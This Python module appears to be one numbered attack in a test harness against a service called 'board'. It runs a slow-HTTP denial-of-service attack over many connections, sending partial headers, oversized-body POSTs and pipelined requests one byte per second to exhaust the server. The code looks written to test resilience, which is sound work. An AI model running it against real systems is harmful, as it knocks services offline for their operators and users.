"""Attack 7: connections that send headers, bodies and the headers of second requests byte by byte."""

import asyncio
import random

from attacker import SOURCES, Target, open_stream, repeat

CONNECTIONS = 110
PAUSE = 1.0
HEADERS = b"GET /api/v1/boards HTTP/1.1\r\nHost: board\r\n"
WHOLE = HEADERS + b"\r\n"
BODY = (
    b"POST /api/v1/sessions HTTP/1.1\r\nHost: board\r\n"
    b"Content-Type: application/json\r\nContent-Length: 60000\r\n\r\n"
)


async def attack(target: Target) -> None:
    starts = [HEADERS, BODY, WHOLE]
    await asyncio.gather(
        *(
            repeat(target, lambda source=source, start=starts[number % 3]: _trickle(target, source, start))
            for source in SOURCES
            for number in range(CONNECTIONS)
        )
    )


async def _trickle(target: Target, source: str, start: bytes) -> str:
    """Sends a start at once, then a byte a second until the server closes the connection."""
    await asyncio.sleep(random.uniform(0, PAUSE))
    _, writer = await open_stream(target, source)
    try:
        writer.write(start)
        # A header whose name never ends, which is also the start of a body or of a second request.
        while True:
            await writer.drain()
            await asyncio.sleep(PAUSE)
            writer.write(b"X")
    finally:
        writer.close()
